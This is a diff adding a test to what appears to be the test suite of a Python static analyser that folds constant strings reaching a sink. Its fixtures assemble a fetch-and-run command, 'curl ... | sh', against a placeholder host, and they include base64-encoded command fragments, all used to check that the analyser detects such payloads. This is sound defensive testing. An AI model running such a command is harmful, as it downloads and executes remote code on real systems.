@@ -32,6 +32,23 @@ describe('python analyser: constant folding', () => {
     ).toEqual(['C:\\temp\\x', 'ABC', 'café', 'plain {braces}', undefined, 'http://example.invalid', 'abab', 'multi\nline']);
   });
 
+  it('folds an f-string whose fields all fold, and not one with a conversion, a format spec or an unknown field', () => {
+    expect(
+      sunk([
+        "HOST = 'http://h.example.invalid'",
+        'PORT = 8080',
+        "sink(f'curl -s {HOST}:{PORT}/s | sh')",
+        "sink(rf'C:\\x\\{HOST[7:8]}' f\"-{'in' + 'ner'}-{{}}\")",
+        "sink(f'''{HOST}/a\\tb''')",
+        "sink(f'{base64.b64decode(\"aWQ=\").decode()} x')",
+        "sink(f'{HOST!r}')",
+        "sink(f'{PORT:>6}')",
+        "sink(f'{os.getcwd()}/x')",
+        "sink(b'%s' % HOST.encode())",
+      ]),
+    ).toEqual(['curl -s http://h.example.invalid:8080/s | sh', 'C:\\x\\h-inner-{}', 'http://h.example.invalid/a\tb', 'id x', undefined, undefined, undefined, undefined]);
+  });
+
   it('folds a repeated string only up to 64 KiB: test data is built that way, payloads are not', () => {
     expect(sunk(["sink('ab' * 3)", "sink(('#' * 5000 + 'aW1wb3J0IG9z')[5000:])", "sink(b'a' * 1024 * 1024)"])).toEqual(['ababab', 'aW1wb3J0IG9z', undefined]);
   });
